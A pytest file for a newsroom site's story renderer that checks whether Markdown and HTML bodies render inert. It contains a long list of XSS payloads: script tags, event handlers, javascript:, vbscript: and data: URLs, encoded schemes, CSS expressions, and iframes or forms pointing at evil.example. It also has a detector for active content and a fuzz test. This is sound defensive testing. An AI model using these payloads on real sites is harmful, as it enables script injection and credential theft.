"""Story bodies render inert: whatever an editor (or an attacker with an editor's password) types,
the HTML that reaches readers runs nothing, loads nothing from elsewhere and styles nothing."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsroom.rendering import render_body
from tests.factories import ArticleFactory

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" oNeRrOr="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">tap</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">tap</math>',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    '<p onclick="alert(1)">click me</p>',
    '<a href="#" onfocus="alert(1)" autofocus>focus</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click]( data:text/html,<script>alert(1)</script>)",
    "![pic](javascript:alert(1))",
    '![pic](https://evil.example/x.png "title" onerror="alert(1)")',
    '<a href="javascript:alert(1)">tap</a>',
    '<a href="  javascript:alert(1)">tap</a>',
    '<a href="\tjavascript:alert(1)">tap</a>',
    '<a href="java\tscript:alert(1)">tap</a>',
    '<a href="java\nscript:alert(1)">tap</a>',
    '<a href="jav&#x09;ascript:alert(1)">tap</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">tap</a>',
    '<a href="&#x6A;avascript:alert(1)">tap</a>',
    '<a href="javascript&colon;alert(1)">tap</a>',
    '<a href="%6A%61vascript:alert(1)">tap</a>',
    '<a href="data:text/html,<script>alert(1)</script>">tap</a>',
    '<a href="vbscript:msgbox(1)">tap</a>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<p style="width: expression(alert(1))">styled</p>',
    "<style>body{background:expression(alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">',
    '<input autofocus onfocus="alert(1)">',
    '<a href="https://example.org" style="position:fixed;top:0">overlay</a>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
]

FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "textarea", "select", "meta", "base", "link", "svg", "math", "img",
    "video", "audio", "source", "details", "noscript", "template",
}  # fmt: skip
# A whole page has its own meta, link, img and form elements; none of these may come from a body.
FORBIDDEN_ON_A_PAGE = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "background", "poster",
    "srcset", "srcdoc",
}  # fmt: skip
SCRIPT_URL = re.compile(r"^(javascript|vbscript|data):")
IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def is_script_url(value):
    """What a browser would run: entities are already decoded by the parser; browsers also drop
    leading spaces and controls and tabs or newlines anywhere in the URL."""
    return bool(SCRIPT_URL.match(IGNORED_IN_URLS.sub("", value or "").lower()))


class ActiveContentFinder(HTMLParser):
    """Lists every element or attribute in some HTML that could run code, load or style."""

    def __init__(self, forbidden_elements, allow_json_ld=False):
        super().__init__(convert_charrefs=True)
        self.forbidden_elements = forbidden_elements
        self.allow_json_ld = allow_json_ld
        self.problems = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag in self.forbidden_elements and not self._is_json_ld(tag, attributes):
            self.problems.append(f"<{tag}> element")
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(f"<meta http-equiv={attributes['http-equiv']!r}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name} handler on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>")
            if name in URL_ATTRIBUTES and is_script_url(value):
                self.problems.append(f"{name}={value!r} on <{tag}>")

    handle_startendtag = handle_starttag

    def _is_json_ld(self, tag, attributes):
        return (
            self.allow_json_ld
            and tag == "script"
            and attributes.get("type") == "application/ld+json"
            and "src" not in attributes
        )


def active_content(html, forbidden_elements=FORBIDDEN_ELEMENTS, allow_json_ld=False):
    finder = ActiveContentFinder(forbidden_elements, allow_json_ld=allow_json_ld)
    finder.feed(html)
    finder.close()
    return finder.problems


def test_there_are_at_least_twenty_vectors():
    assert len(XSS_VECTORS) >= 20


def test_the_checker_finds_active_content_in_unsanitised_html():
    """The checker itself works: it flags each kind of danger it is meant to find."""
    raw = (
        '<script>1</script><img src=x onerror=alert(1)><a href=" java\tscript:x">a</a>'
        '<p style="x">p</p><iframe src="https://evil.example/"></iframe>'
        '<a href="&#106;avascript:alert(1)">b</a>'
    )

    problems = active_content(raw)

    assert len(problems) == 7


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_a_known_xss_vector_renders_inert(vector):
    html = str(render_body(vector))

    assert active_content(html) == []


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_a_known_xss_vector_inside_ordinary_markdown_renders_inert(vector):
    body = f"## Court hearing\n\nThe judge spoke. {vector} Then she left.\n\n- one\n- {vector}\n"

    html = str(render_body(body))

    assert active_content(html) == []
    assert "<h2>Court hearing</h2>" in html


def test_only_the_allowed_attributes_survive():
    html = str(render_body('<a href="https://example.org" id="x" class="y" target="_top">z</a>'))

    assert html == ('<p><a href="https://example.org" rel="noopener noreferrer nofollow">z</a></p>')


def test_ordinary_markdown_still_renders():
    body = (
        "## The verdict\n\nThe court in *Almaty* sentenced **four** people.\n\n"
        "> A quote from the defence.\n\n1. first\n2. second\n\n"
        "[The ruling](https://example.org/ruling?id=1&lang=en) and "
        "[our earlier story](/stories/earlier/)."
    )

    html = str(render_body(body))

    assert "<h2>The verdict</h2>" in html
    assert "<em>Almaty</em>" in html and "<strong>four</strong>" in html
    assert "<blockquote>" in html and "<ol>" in html
    assert 'href="https://example.org/ruling?id=1&amp;lang=en"' in html
    assert 'href="/stories/earlier/"' in html


def test_a_mailto_link_is_kept():
    html = str(render_body("[write to us](mailto:tips@example.org)"))

    assert 'href="mailto:tips@example.org"' in html


def test_an_empty_body_renders_empty():
    assert str(render_body("")) == ""
    assert str(render_body(None)) == ""


FRAGMENTS = st.sampled_from(
    [
        "<", ">", '"', "'", "=", "/", " ", "\t", "\n", "&#", "&#x6A;", ";", ":", "(", ")", "[",
        "]", "!", "`", "script", "img", "svg", "iframe", "style", "a", "href", "src", "onerror",
        "onload", "javascript", "vbscript", "data", "java\tscript", "alert(1)", "<!--", "-->",
        "<![CDATA[", "]]>", "x", "%6A", "expression", "url(",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40).map("".join))
def test_random_mixtures_of_html_fragments_render_inert(body):
    assert active_content(str(render_body(body))) == []


# The story page as readers get it

PAGE_VECTORS = [
    "<img src=x onerror=alert('XSS-MARK')>",
    "[read more](javascript:alert('XSS-MARK'))",
    "<svg onload=alert('XSS-MARK')></svg>",
    '<iframe src="https://evil.example/XSS-MARK"></iframe>',
    "<a href=\"  JaVa&#x09;ScRiPt:alert('XSS-MARK')\">read more</a>",
]


@pytest.mark.django_db
@pytest.mark.parametrize("vector", PAGE_VECTORS)
def test_the_story_page_serves_a_hostile_body_inert(client, vector):
    article = ArticleFactory(body=f"Before the attack.\n\n{vector}\n\nAfter the attack.")

    response = client.get(article.get_absolute_url())

    content = response.content.decode()
    assert response.status_code == 200
    assert "Before the attack." in content and "After the attack." in content
    assert active_content(content, FORBIDDEN_ON_A_PAGE, allow_json_ld=True) == []
    # The page shows the body only as the one sanitised rendering.
    assert str(article.body_html) in content
